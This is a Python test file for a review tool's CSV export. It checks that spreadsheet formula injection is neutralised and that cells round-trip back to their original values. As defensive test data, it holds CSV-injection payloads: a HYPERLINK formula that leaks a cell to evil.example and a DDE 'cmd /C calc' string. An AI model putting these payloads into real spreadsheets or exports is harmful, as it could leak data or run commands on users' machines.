"""The decisions CSV is safe to open in a spreadsheet (OWASP "CSV injection") and `review apply` reads back exactly
the original sku_id and note: the sheet's own encoder run by a real JS engine, and a round trip through apply."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from importlib import resources
from pathlib import Path

import pytest

from factory.job.run import run
from factory.review.apply import decode_cell
from factory.review.manifests import open_night, read_images
from tests.conftest import DATE, SAMPLE_SCHEMA, cli, write_skus
from tests.review.conftest import review_cfg

# ids the SKU validator accepts (printable, no edge spaces) that a spreadsheet would evaluate, or nearly
HOSTILE_IDS = ['=HYPERLINK("http://x","open")', "+1-555-0100", "-42", "@SUM(A1)", "'quoted", "'=x", "''", "S-ok"]
HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=still text",
    'plain, with "quotes"',
]
SPREADSHEET_EVALUATES = tuple("=+-@\t\r")


def spec_cell(value: str) -> str:
    """What the export must write for a value (the rule in sheet.js csvField, before CSV quoting)."""
    return "'" + value if value[:1] in "=+-@\t\r'" else value


def js_csv_fields(values: list[str]) -> list[str]:
    """sheet.js's csvField (the part of the script before the DOM code) run by node on `values`."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("no node: the JS side of the export is checked by the browser test only")
    script = resources.files("factory.review").joinpath("sheet.js").read_text("utf-8")
    prelude = script.split("(function () {", 1)[0]
    assert "function csvField" in prelude
    program = f"{prelude}\nprocess.stdout.write(JSON.stringify({json.dumps(values)}.map(csvField)));"
    done = subprocess.run([node, "-e", program], capture_output=True, text=True, timeout=30, check=True)
    return json.loads(done.stdout)


def test_the_sheets_export_keeps_every_cell_text_and_apply_decodes_it():
    values = HOSTILE_IDS + HOSTILE_NOTES
    fields = js_csv_fields(values)
    cells = next(csv.reader(io.StringIO(",".join(fields), newline="")))
    assert cells == [spec_cell(v) for v in values]
    assert not [c for c in cells if c.startswith(SPREADSHEET_EVALUATES)]  # nothing a spreadsheet would run
    assert [decode_cell(c) for c in cells] == values  # exactly the originals back


def test_decode_leaves_hand_written_cells_alone():
    assert [decode_cell(c) for c in ["'abc", "it's", "'", "", "S-1", "'' x"]] == ["'abc", "it's", "'", "", "S-1", "' x"]


@pytest.fixture(scope="module")
def hostile_night(tiny_models, tmp_path_factory):
    """A night whose shoes (every hostile id) all go to review (the alignment threshold fails them)."""
    cfg = review_cfg(tiny_models, tmp_path_factory.mktemp("hostile-night"))
    rows = [
        {"sku_id": i, "category": "shoes", "attrs": '{"brand": "Peak", "color": "red"}', "variants": 1}
        for i in HOSTILE_IDS
    ]
    write_skus(Path(cfg.paths.skus) / f"{DATE}.parquet", rows, SAMPLE_SCHEMA)
    run(cfg, DATE)
    assert {r.sku_id for r in read_images(open_night(cfg, DATE), "review")} == set(HOSTILE_IDS)
    return cfg


def test_hostile_ids_and_notes_round_trip_through_review_apply(hostile_night, tmp_path):
    """Written as the sheet exports (and as a spreadsheet saves it back: quoted by csv), applied by the CLI."""
    decisions = {
        sku: ("approve" if i % 2 else "reject", HOSTILE_NOTES[i % len(HOSTILE_NOTES)])
        for i, sku in enumerate(HOSTILE_IDS)
    }
    buf = io.StringIO(newline="")
    writer = csv.writer(buf)  # \r\n lines, as a spreadsheet saves them; a CR in a cell gets quoted
    writer.writerow(["sku_id", "decision", "note"])
    writer.writerows([spec_cell(s), d, spec_cell(n)] for s, (d, n) in decisions.items())
    path = tmp_path / "decisions.csv"
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    cfg = hostile_night
    done = cli("review", "apply", "--date", DATE, "--output", cfg.paths.output, "--reviewer", "ana", str(path))
    assert done.returncode == 0, done.stderr
    night = open_night(cfg, DATE)
    got = {
        r.sku_id: (r.review_decision, r.review_note)
        for k in ("approved", "review")
        for r in read_images(night, k)
        if r.review_decision
    }
    assert got == decisions
